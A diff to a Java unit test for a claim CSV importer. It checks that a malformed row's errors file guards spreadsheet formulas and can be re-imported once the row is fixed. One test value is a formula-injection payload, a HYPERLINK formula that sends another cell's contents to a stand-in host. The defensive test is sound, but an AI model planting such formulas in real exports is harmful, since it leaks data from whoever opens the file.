@@ -776,6 +776,51 @@ class ClaimImportTest {
                 .satisfies(c -> assertThat(c.claimantPhone()).isEqualTo("+1 916 555 0142"));
     }
 
+    /**
+     * A row a value too long (an unquoted comma in a name) in a file without an error column: its values are read under
+     * no field, so each that a spreadsheet would run is written as text (a phone number as it was), and the reason comes
+     * after every value, so that the usual mend in a spreadsheet (the name's two cells merged, the cells after them moved
+     * left) brings the address back under its field and the reason under the error column.
+     */
+    @Test
+    void aLongRowsErrorsFileGuardsItsFormulasAndTheUsualMendImportsIt() throws Exception {
+        String formula = "=HYPERLINK(\"https://x.example/?\"&H2;\"open\")";
+        String header = HEADER + ",claimantPhone";
+        String longRow = row(1).replace("Wells Fargo Bank NA", "\"" + formula.replace("\"", "\"\"") + "\"")
+                .replace("Claimant 1", "Garcia, Maria") + "\"1200 Capitol Mall, Sacramento, CA 95814\",+1 916 555 0142";
+        Path file = write("long.csv", header + "\n" + longRow + "\n", StandardCharsets.UTF_8);
+        assertThat(run(file, false, false).rejected()).singleElement()
+                .satisfies(r -> assertThat(r.column()).isEqualTo(ClaimImport.WHOLE_ROW));
+
+        Path errors = ClaimImport.errorsFileOf(file);
+        List<String[]> rows = readCsv(errors);
+        assertThat(rows.get(0)).hasSize(13).endsWith("claimantPhone", "error");
+        String[] written = rows.get(1);
+        assertThat(written).hasSize(14);
+        assertThat(written[2]).as("holderName").isEqualTo("'" + formula);
+        assertThat(written[6]).isEqualTo("Garcia");
+        assertThat(written[7]).isEqualTo(" Maria");
+        assertThat(written[12]).as("a phone: as it was").isEqualTo("+1 916 555 0142");
+        assertThat(written[13]).startsWith("(row) has 13 value(s) but the header has 12 column(s)");
+
+        // mended as a spreadsheet does it: the name's cells merged, the cells after them moved left; the formula typed
+        List<String> mended = new java.util.ArrayList<>(List.of(written));
+        mended.set(6, "Garcia Maria");
+        mended.remove(7);
+        mended.set(2, "Wells Fargo Bank NA");
+        try (var out = org.claimdesk.app.CsvFile.create(errors, List.of(rows.get(0)), org.claimdesk.app.CsvFile.Guard.NONE)) {
+            out.row(mended);
+            out.finish();
+        }
+        ClaimImport.Report again = run(errors, false, false);
+        assertThat(again.rejected()).isEmpty();
+        assertThat(again.imported()).isEqualTo(1);
+        assertThat(queries.claims(org.claimdesk.store.ClaimQuery.all())).singleElement().satisfies(c -> {
+            assertThat(c.claimantAddress()).isEqualTo("1200 Capitol Mall, Sacramento, CA 95814");
+            assertThat(c.claimantPhone()).isEqualTo("+1 916 555 0142");
+        });
+    }
+
     /** The empty columns a spreadsheet saves after the last one used: ignored while they hold nothing. */
     @Test
     void columnsWithNoNameAreIgnoredWhileTheirValuesAreBlank() throws Exception {
